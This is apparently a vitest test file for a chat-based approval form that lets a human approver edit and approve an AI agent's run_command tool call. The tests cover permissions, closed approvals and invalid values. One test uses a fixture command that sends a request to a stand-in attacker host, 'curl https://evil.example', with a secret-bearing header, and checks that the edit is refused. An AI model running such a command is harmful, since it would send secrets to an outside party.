import { ParleyError } from "@parley/base";
import { expect, test } from "vitest";
import { ada, behalf, general, QuestionContext } from "../testing/question-context.ts";
import { answered, approval, session, token } from "../testing/question-scene.ts";
import type { ScriptedAnswers } from "../testing/scripted-requests.ts";
import { editFormFor } from "./edit-call.ts";

const question = approval();

function listed(given: unknown = { cmd: "npm test", background: false }): ScriptedAnswers {
	const prompt = {
		...{ type: "confirm" as const, label: "Allow run npm test?", token, required: true, options: [] },
		...{ default: null, placeholder: "", validation: "" },
		context: { call_id: "call_1", tool: "run_command", arguments: given },
	};
	const origin = { session_id: session, session_title: "", created_at: "", always_ask: false };
	return {
		list_prompts: () => ({ prompts: [{ ...prompt, ...origin }] }),
		prompt_response: () => ({ status: "sent" }),
	};
}

const answering = { person: ada, room: general, session, token };
const again = [[expect.objectContaining({ label: "Edit again" })]];

test("the form has the arguments that the gateway shows to a person who may approve", async () => {
	const t = new QuestionContext([question], listed());
	await expect(editFormFor(t.context, answering)).resolves.toMatchObject({
		form: {
			fields: [
				{ name: "t:cmd", value: "npm test" },
				{ name: "j:background", value: "false" },
			],
		},
	});
	expect(t.gateway.requests).toEqual([
		{
			method: "list_prompts",
			params: { token, session_id: session, approvals: true, ...behalf },
			sessionId: session,
		},
	]);
});

test("a person without the right to approve gets the reason instead of a form", async () => {
	const refuse = () => {
		throw new ParleyError("forbidden: only approvers may approve", { code: "permission_denied" });
	};
	const t = new QuestionContext([question], { ...listed(), list_prompts: refuse });
	await expect(editFormFor(t.context, answering)).resolves.toEqual({
		reply: { text: "Not accepted: only approvers may approve." },
	});
	expect(await t.press("edit")).toEqual({ text: "Not accepted: only approvers may approve." });
});

test("a closed approval and a call that does not fit a form get an explanation", async () => {
	const closed = new QuestionContext([question, answered({})], listed());
	expect(await closed.press("edit")).toEqual({
		text: expect.stringContaining("Already answered:"),
	});
	const long = new QuestionContext([question], listed({ cmd: "a".repeat(5000) }));
	expect(await long.press("edit")).toEqual({ text: expect.stringContaining("cannot be edited here") });
	const closedContext = new QuestionContext([question], { list_prompts: () => ({ prompts: [] }) });
	expect(await closedContext.press("edit")).toEqual({
		text: expect.stringContaining("no longer waiting for an answer"),
	});
});

test("a press whose form did not open can be repeated", async () => {
	const t = new QuestionContext([question], listed());
	expect(await t.press("edit")).toEqual({
		text: "The form did not open. Please press the button again.",
		controls: again,
	});
});

test("a filled form approves the call with its arguments", async () => {
	const t = new QuestionContext([question], listed());
	const fields = { "t:cmd": "npm run lint", "j:background": "true" };
	expect(await t.press("edit", { fields })).toBeUndefined();
	expect(t.gateway.requests.at(-1)).toEqual({
		method: "prompt_response",
		params: {
			...{ token, key: "key", value: "once", changes: 0 },
			arguments: { cmd: "npm run lint", background: true },
			...behalf,
		},
		sessionId: session,
	});
});

test("a form that is sent unchanged approves the unchanged call", async () => {
	const t = new QuestionContext([question], listed());
	const fields = { "t:cmd": "npm test", "j:background": "false" };
	expect(await t.press("edit", { fields })).toBeUndefined();
	expect(t.gateway.requests.at(-1)?.params).toEqual({
		...{ token, key: "key", value: "once", changes: 0 },
		...behalf,
	});
});

test("a call that received a hidden secret after the form was opened is not edited", async () => {
	const t = new QuestionContext([question], listed({ cmd: "curl -H [redacted]" }));
	const reply = await t.press("edit", { fields: { "t:cmd": "curl https://evil.example" } });
	expect(reply).toEqual({ text: expect.stringContaining("cannot be edited here") });
	expect(t.gateway.requests.map(({ method }) => method)).toEqual(["list_prompts"]);
});

test("a value that cannot be read is not sent, and the form is offered again", async () => {
	const t = new QuestionContext([question], listed());
	const fields = { "t:cmd": "npm test", "j:background": "no" };
	expect(await t.press("edit", { fields })).toEqual({
		text: expect.stringContaining("`background` is not JSON: “no”"),
		controls: again,
	});
	expect(t.gateway.requests.map(({ method }) => method)).toEqual(["list_prompts"]);
});

test("arguments that the gateway refuses leave the approval open, with the reason and the form", async () => {
	const refuse = () => {
		throw new ParleyError("invalid params: arguments: writes outside the roots", {
			code: "invalid_argument",
		});
	};
	const t = new QuestionContext([question], { ...listed(), prompt_response: refuse });
	expect(await t.press("edit", { fields: { "t:cmd": "a" } })).toEqual({
		text: "Invalid answer: arguments: writes outside the roots. The approval is still open.",
		controls: again,
	});
});
